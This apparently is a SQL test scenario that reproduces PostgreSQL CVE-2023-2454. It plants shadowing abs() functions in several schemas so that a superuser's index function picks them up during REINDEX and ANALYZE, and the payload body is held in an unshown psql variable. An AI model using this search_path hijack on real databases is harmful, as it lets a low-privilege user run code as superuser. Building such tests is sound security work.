-- way: define what the index functions of a superuser find unqualified when maintenance runs them
-- source: CVE-2023-2454
-- control: the superuser's index function looks in the bound schema
-- section: setup
CREATE FUNCTION public.half(int) RETURNS int LANGUAGE plpgsql IMMUTABLE SET search_path = pg_catalog, pg_temp
  AS $$ BEGIN RETURN abs($1) / 2; END $$;
CREATE INDEX items_half ON shop.items (public.half(id));
-- section: application
CREATE FUNCTION shop.abs(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS :'note';
CREATE SCHEMA AUTHORIZATION CURRENT_USER CREATE VIEW a AS SELECT 1;
CREATE SCHEMA postgres;
CREATE FUNCTION postgres.abs(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS :'note';
CREATE FUNCTION pg_temp.abs(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS :'note';
SET search_path = shop, pg_catalog;
INSERT INTO shop.items VALUES (-21, 'ladle');
-- section: others
REINDEX TABLE shop.items;
ANALYZE shop.items;
INSERT INTO shop.items VALUES (22, 'whisk');
-- section: control
ALTER FUNCTION public.half(int) SET search_path = shop, pg_catalog;
